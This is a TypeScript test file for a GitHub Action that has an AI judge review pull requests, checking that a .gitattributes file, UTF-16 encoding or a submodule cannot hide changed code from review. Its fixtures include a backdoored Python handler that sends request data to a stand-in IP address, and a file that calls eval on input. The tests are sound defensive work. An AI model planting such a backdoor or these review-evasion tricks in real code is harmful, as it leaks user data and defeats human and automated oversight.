/**
 * Issue 37, items 1–3, through the built Action (`node dist/index.js`) with the GitHub and Ollama
 * doubles: nothing a pull request controls can make its own code unjudged. A `.gitattributes` the
 * change adds, a UTF-16 source file and a submodule each ended PASS with no model call; now the
 * file is judged as text, or, when it cannot be read, it is unseen and a critical assertion
 * scoped to it is unmet (spec §7, §13, §14). Each attack has its honest twin, which still passes.
 */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { WRITE_TOKEN, startGitHubDouble, type GitHubDouble } from '../../doubles/github.js';
import { startOllamaDouble, type OllamaDouble } from '../../doubles/ollama.js';
import {
  assertActionBuilt,
  cleanupActionRuns,
  doubleSetupFromGit,
  pullRequestEvent,
  runAction,
  type ActionRun,
} from '../../support/action-run.js';
import { createGitRepo, type GitRepoFixture } from '../../support/git-repo.js';

const OWNER = 'octo-org';
const REPO = 'widgets';
const NUMBER = 37;
const CONFIG = '.github/critic-gate.yml';

const repos: GitRepoFixture[] = [];
const empties: string[] = [];
const githubs: GitHubDouble[] = [];
let ollama: OllamaDouble | undefined;

beforeAll(() => assertActionBuilt());
afterEach(async () => {
  await Promise.all([
    ...githubs.splice(0).map((g) => g.close()),
    ...repos.splice(0).map((r) => r.cleanup()),
    ...empties.splice(0).map((d) => rm(d, { recursive: true, force: true })),
    ollama?.close(),
  ]);
  ollama = undefined;
});
afterAll(() => cleanupActionRuns());

type Files = Record<string, string | Uint8Array>;

interface PullRequest {
  repo: GitRepoFixture;
  github: GitHubDouble;
  event: Record<string, unknown>;
}

/** A pull request in a real repository, checked out at its head as actions/checkout leaves it. */
async function pullRequest(spec: { config: string; base: Files; head: Files; submodules?: Record<string, string> }): Promise<PullRequest> {
  const repo = await createGitRepo();
  repos.push(repo);
  await repo.write(CONFIG, spec.config);
  for (const [path, content] of Object.entries(spec.base)) await repo.write(path, content);
  const base = await repo.commit('base');
  await repo.branch('feature');
  for (const [path, content] of Object.entries(spec.head)) await repo.write(path, content);
  for (const [path, sha] of Object.entries(spec.submodules ?? {})) await repo.submodule(path, sha);
  const head = await repo.commit('feature');
  const setup = await doubleSetupFromGit(repo, { owner: OWNER, repo: REPO, number: NUMBER, base, head });
  const github = await startGitHubDouble({ ...setup, reviews: [] });
  githubs.push(github);
  const event = pullRequestEvent({
    owner: OWNER,
    repo: REPO,
    number: NUMBER,
    headSha: head,
    baseSha: base,
    changedFiles: (setup.files ?? []).length,
  });
  return { repo, github, event };
}

/**
 * A judge that calls the assertions `met` met, with a real quote from its material, and every
 * other one unmet; its calibration canaries it answers honestly, as a careful model would.
 */
async function judge(met: readonly string[], unmet: readonly string[] = []): Promise<OllamaDouble> {
  const refused = unmet.map((id) => ({ id, met: false, evidence: 'the change does what the assertion rules out', fix: 'Take it out' }));
  ollama = await startOllamaDouble({
    fallback: unmet.length > 0 ? { content: JSON.stringify({ criteria: refused }) } : { content: '', auto: 'honest', real: met },
  });
  return ollama;
}

/**
 * `git`: the workspace holds both commits, as actions/checkout with fetch-depth 0 leaves it.
 * `api`: an empty workspace, so the change is read through the GitHub API (the double's files,
 * contents and trees, made from the same repository).
 */
type Source = 'git' | 'api';
const SOURCES: Source[] = ['git', 'api'];

async function act(pr: PullRequest, judgeUrl: string, source: Source = 'git'): Promise<ActionRun> {
  const workspace = source === 'git' ? pr.repo.dir : await mkdtemp(join(tmpdir(), 'critic-gate-empty-workspace-'));
  if (source === 'api') empties.push(workspace);
  return runAction({ apiUrl: pr.github.url, token: WRITE_TOKEN, workspace, event: pr.event, inputs: { 'ollama-host': judgeUrl } });
}

/** Every prompt the judge was sent, as one text. */
const prompts = (o: OllamaDouble): string =>
  o
    .chatRequests()
    .flatMap((r) => (r.messages ?? []).map((m) => m.content))
    .join('\n');

const BASE_PY = 'def handler(event):\n    return {"status": 200}\n';
const BACKDOOR_PY =
  'import socket\n\ndef handler(event):\n    socket.create_connection(("203.0.113.9", 4444)).send(repr(event).encode())\n    return {"status": 200}\n';

function utf16le(text: string): Uint8Array {
  return new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]));
}

/** A real 1×1 PNG: binary by its bytes (a NUL in its header), as any image asset is. */
const PNG = new Uint8Array(
  Buffer.from(
    '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201a5d8b1ad0000000049454e44ae426082',
    'hex',
  ),
);

describe('issue 37 item 1: a .gitattributes the pull request adds', () => {
  const config = `version: 1
assertions:
  - {id: no-network, text: "The handler opens no network connection", critical: true, files: "src/**/*.py"}
`;

  it.each(SOURCES)(
    'read through %s, does not hide the Python files it marks -diff: they are judged as text, and an unmet verdict fails',
    async (source) => {
      const pr = await pullRequest({
        config,
        base: { 'src/handler.py': BASE_PY },
        head: { '.gitattributes': '*.py -diff\n', 'src/handler.py': BACKDOOR_PY },
      });
      const o = await judge([], ['no-network']);
      const run = await act(pr, o.url, source);
      const result = await run.result();
      expect(result.verdict).toBe('FAIL');
      expect(run.code).not.toBe(0);
      expect(result.criteria).toEqual([expect.objectContaining({ id: 'no-network', met: false, status: 'judged' })]);
      // The change's text reached the judge: the attribute decided nothing about what was read.
      expect(prompts(o)).toContain('socket.create_connection(("203.0.113.9", 4444))');
      // Counts are git's by content (`--numstat -M` without the change's attribute): a text file with
      // its lines. Through the API they are GitHub's, which the change's attribute may still sway.
      if (source === 'git')
        expect(result.subject?.files).toContainEqual(expect.objectContaining({ path: 'src/handler.py', binary: false, additions: 3 }));
    },
  );

  it('twin: the same change without the attribute, judged met, passes', async () => {
    const pr = await pullRequest({
      config,
      base: { 'src/handler.py': BASE_PY },
      head: { 'src/handler.py': BASE_PY.replace('200', '201') },
    });
    const o = await judge(['no-network']);
    const run = await act(pr, o.url);
    const result = await run.result();
    expect(result.verdict).toBe('PASS');
    expect(run.code).toBe(0);
    expect(prompts(o)).toContain('return {"status": 201}');
  });
});

describe('issue 37 item 2: a UTF-16 source file', () => {
  const config = `version: 1
assertions:
  - {id: no-eval, text: "The widget never evaluates strings as code", critical: true, files: "src/**/*.ts"}
`;
  const EVIL_TS = 'export function render(input: string): unknown {\n  return eval(input);\n}\n';
  const HONEST_TS = 'export function render(input: string): string {\n  return input.trim();\n}\n';

  it.each(SOURCES)('read through %s, is decoded and judged, not taken for binary: an unmet verdict fails', async (source) => {
    const pr = await pullRequest({ config, base: { 'src/a.ts': 'export const a = 1;\n' }, head: { 'src/widget.ts': utf16le(EVIL_TS) } });
    const o = await judge([], ['no-eval']);
    const run = await act(pr, o.url, source);
    const result = await run.result();
    expect(result.verdict).toBe('FAIL');
    expect(run.code).not.toBe(0);
    expect(result.criteria).toEqual([expect.objectContaining({ id: 'no-eval', met: false, status: 'judged' })]);
    expect(prompts(o)).toContain('return eval(input);');
  });

  it('twin: an honest UTF-16 file is judged (its text reaches the judge) and passes', async () => {
    const pr = await pullRequest({ config, base: { 'src/a.ts': 'export const a = 1;\n' }, head: { 'src/widget.ts': utf16le(HONEST_TS) } });
    const o = await judge(['no-eval']);
    const run = await act(pr, o.url);
    const result = await run.result();
    expect(prompts(o)).toContain('return input.trim();');
    expect(result.verdict).toBe('PASS');
    expect(run.code).toBe(0);
    expect(result.criteria).toEqual([expect.objectContaining({ id: 'no-eval', met: true })]);
  });
});

describe('issue 37 item 3: a submodule', () => {
  const config = `version: 1
assertions:
  - {id: reviewed, text: "Every source change is reviewed code", critical: true, files: "src/**"}
`;

  it.each(SOURCES)(
    'read through %s, under src/ is unseen: the critical assertion scoped to it is unmet, naming it, with no model call',
    async (source) => {
      const pr = await pullRequest({
        config,
        base: { 'src/a.ts': 'export const a = 1;\n' },
        head: {},
        submodules: { 'src/vendored': 'a'.repeat(40) },
      });
      const o = await judge(['reviewed']);
      const run = await act(pr, o.url, source);
      const result = await run.result();
      expect(result.verdict).toBe('FAIL');
      expect(run.code).not.toBe(0);
      const [criterion] = result.criteria;
      expect(criterion).toEqual(expect.objectContaining({ id: 'reviewed', met: false, critical: true }));
      expect(`${criterion?.evidence} ${criterion?.fix}`).toContain('src/vendored');
      expect(`${criterion?.evidence} ${criterion?.fix}`).toContain('submodule');
      expect(o.chatRequests()).toEqual([]);
    },
  );

  it('twin: a submodule bump outside every assertion scope passes', async () => {
    const pr = await pullRequest({
      config,
      base: { 'src/a.ts': 'export const a = 1;\n' },
      head: {},
      submodules: { 'third_party/lib': 'b'.repeat(40) },
    });
    const o = await judge(['reviewed']);
    const run = await act(pr, o.url);
    const result = await run.result();
    expect(result.verdict).toBe('PASS');
    expect(run.code).toBe(0);
    expect(result.criteria).toEqual([expect.objectContaining({ id: 'reviewed', status: 'not_applicable' })]);
  });
});

describe('issue 37: a real binary asset in scope of a non-critical assertion', () => {
  it('is unseen: that assertion is not met and names the file, yet does not fail the change on its own', async () => {
    const config = `version: 1
threshold: 0.5
assertions:
  - {id: safe, text: "The handler returns a status", critical: true, files: "src/**"}
  - {id: logo, text: "The logo is the brand's blue", files: "assets/**"}
`;
    const pr = await pullRequest({
      config,
      base: { 'src/handler.py': BASE_PY },
      head: { 'src/handler.py': BASE_PY.replace('200', '201'), 'assets/logo.png': PNG },
    });
    const o = await judge(['safe', 'logo']);
    const run = await act(pr, o.url);
    const result = await run.result();
    const logo = result.criteria.find((c) => c.id === 'logo');
    expect(logo).toEqual(expect.objectContaining({ met: false, critical: false }));
    expect(`${logo?.evidence} ${logo?.fix}`).toContain('assets/logo.png');
    expect(result.criteria.find((c) => c.id === 'safe')).toEqual(expect.objectContaining({ met: true }));
    expect(result.verdict).toBe('PASS');
    expect(run.code).toBe(0);
  });
});
